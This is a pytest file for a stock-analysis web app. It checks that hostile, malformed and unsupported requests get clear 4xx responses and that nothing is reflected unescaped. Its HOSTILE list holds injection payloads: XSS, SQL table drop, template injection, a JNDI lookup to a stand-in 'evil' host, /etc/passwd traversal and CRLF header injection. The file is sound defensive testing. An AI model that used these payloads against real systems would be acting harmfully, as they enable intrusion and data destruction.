"""Hostile and broken input: a clear 4xx in the site's design, nothing reflected unescaped."""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from oracle.domain.errors import DatabaseUnavailable

if TYPE_CHECKING:
    from quart.typing import TestClientProtocol

    from tests.web.scenes import Scene

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE bars; --",
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil}",
    "../../etc/passwd",
    "AAPL\r\nSet-Cookie: a=b",
    "AAPL\x00",
    "\x07bell",
    "\u202eLPAA",
    "ＡＡＰＬ",  # noqa: RUF001 - full-width letters look like a symbol and are none
    "АAPL",  # noqa: RUF001 - a Cyrillic letter looks like a symbol's and is none
    "\U0001f4c8",
    "%s%n%x",
    "A" * 11,
    "A" * 5000,
    "-",
    ".",
    " ",
)
ROUTES = (
    "/stocks/{}",
    "/search?q={}",
    "/ranking?symbols={}",
    "/api/v1/stocks/{}",
    "/api/v1/search?q={}",
    "/api/v1/recommendation?symbols={}",
    "/track-record?symbol={}",
    "/track-record?window={}",
    "/api/v1/track-record?origin={}",
    "/api/v1/track-record.csv?symbol={}",
)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("route", ROUTES)
async def test_hostile_text_is_refused_or_harmless(
    client: TestClientProtocol, route: str, text: str
) -> None:
    """Whatever stands in an address, no answer is a 5xx and no answer repeats it as markup."""
    path, _, query = route.partition("?")
    raw = quote(text, safe="").encode()
    scope = {"path": path.format(text), "raw_path": path.encode().replace(b"{}", raw)}
    if query:
        scope["query_string"] = query.encode().replace(b"{}", raw)
    response = await client.get("/", scope_base=scope)
    body = await response.get_data(as_text=True)
    assert response.status_code < 500
    if path.startswith(("/stocks", "/api/v1/stocks")):
        assert 400 <= response.status_code < 500
    if response.mimetype == "text/html":
        assert "<script>alert" not in body
        assert "<img src=x" not in body
        assert "49" not in body.split("</title>")[0]
    assert "Set-Cookie" not in response.headers


@pytest.mark.parametrize(
    ("raw_path", "query", "status"),
    [
        (b"/stocks/%ff", b"", 400),
        (b"/stocks/%C0%AF", b"", 400),
        (b"/stocks/%zz", b"", 400),
        (b"/stocks/AAPL%", b"", 400),
        (b"/stocks/AAPL%00", b"", 400),
        (b"/search", b"q=%ff", 400),
        (b"/search", b"q=%", 400),
        (b"/search", b"q=a%00b", 400),
        (b"/search", b"q=" + b"a" * 3000, 414),
        (b"/" + b"a" * 600, b"", 414),
    ],
)
async def test_broken_addresses_are_refused(
    client: TestClientProtocol, raw_path: bytes, query: bytes, status: int
) -> None:
    """Bad escapes, bad UTF-8, NUL and endless addresses are the client's fault."""
    scope = {"path": "/search", "raw_path": raw_path, "query_string": query}
    response = await client.get("/", scope_base=scope)
    assert response.status_code == status
    assert "<html" in await response.get_data(as_text=True)


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/search?q=", 400),
        ("/search?q=%20%20", 400),
        ("/search?q=" + "a" * 65, 400),
        ("/api/v1/search", 400),
        ("/api/v1/search?q=", 400),
        ("/ranking?symbols=", 422),
        ("/ranking?symbols=AAPL", 422),
        ("/ranking?symbols=AAPL,AAPL", 422),
        ("/ranking?symbols=,,,", 422),
        ("/api/v1/recommendation?symbols=", 422),
        ("/stocks/ZZZZ", 404),
        ("/stocks/", 404),
        ("/stocks/A/B", 404),
        ("//stocks//AAPL", 404),
        ("/api/v1/nothing", 404),
        ("/static/../app.py", 404),
        ("/static/vendor/", 404),
    ],
)
async def test_wrong_requests_have_their_status(
    client: TestClientProtocol, path: str, status: int
) -> None:
    """Empty, over-long, unknown and miscounted input each get their own refusal."""
    response = await client.get(path)
    assert response.status_code == status
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("symbols", ["AAPL", "", "<b>"])
async def test_a_refused_selection_can_be_mended(client: TestClientProtocol, symbols: str) -> None:
    """What was typed stands in its field again, so that nobody has to go back and begin anew."""
    response = await client.get("/ranking", query_string={"symbols": symbols})
    page = await response.get_data(as_text=True)
    assert response.status_code == 422
    assert f'value="{escape(symbols)}"' in page
    assert "2 to 50 symbols" in page


@pytest.mark.parametrize("path", ["/", "/stocks/AAPL", "/search", "/api/v1/stocks/AAPL"])
@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "BREW"])
async def test_other_methods_are_refused(
    client: TestClientProtocol, path: str, method: str
) -> None:
    """What can only be read says which methods it takes."""
    response = await client.get(path, scope_base={"method": method})
    assert response.status_code == 405
    assert "GET" in response.headers["Allow"]


async def test_an_unknown_stock_comes_with_suggestions(client: TestClientProtocol) -> None:
    """The page says what is wrong, what may have been meant, and where to go on."""
    response = await client.get("/stocks/APPL")
    page = await response.get_data(as_text=True)
    assert response.status_code == 404
    assert "No stock with the symbol APPL is known." in page
    assert '<a class="chip" href="/stocks/AAPL">' in page
    assert "<title>No such stock is known" in page


async def test_an_error_fits_the_place_it_is_swapped_into(client: TestClientProtocol) -> None:
    """Htmx swaps errors in as well, so it gets the message alone and not a page in a page."""
    response = await client.get("/stocks/APPL", headers={"HX-Request": "true"})
    fragment = await response.get_data(as_text=True)
    assert response.status_code == 404
    assert "<html" not in fragment
    assert "No stock with the symbol APPL is known." in fragment


async def test_an_outage_says_when_to_come_back(client: TestClientProtocol, scene: Scene) -> None:
    """A 503 has Retry-After, a way to try again, and the request's id."""
    scene.reports["AAPL"] = DatabaseUnavailable("The database does not answer.")
    response = await client.get("/stocks/AAPL", headers={"X-Request-ID": "test-0002"})
    page = await response.get_data(as_text=True)
    assert response.status_code == 503
    assert response.headers["Retry-After"] == "5"
    assert 'href="/stocks/AAPL">Try again' in page
    assert "test-0002" in page


async def test_an_unforeseen_error_tells_nothing(client: TestClientProtocol, scene: Scene) -> None:
    """A defect gives the same design and no detail of itself."""
    scene.reports["AAPL"] = RuntimeError("the password is swordfish")
    response = await client.get("/stocks/AAPL")
    page = await response.get_data(as_text=True)
    assert response.status_code == 500
    assert "Something went wrong here" in page
    assert "swordfish" not in page


async def test_a_page_does_without_the_market_state(
    client: TestClientProtocol, scene: Scene
) -> None:
    """An error page appears even when the market's own state cannot be told."""
    scene.status = DatabaseUnavailable("no calendar")
    response = await client.get("/nowhere")
    assert response.status_code == 404
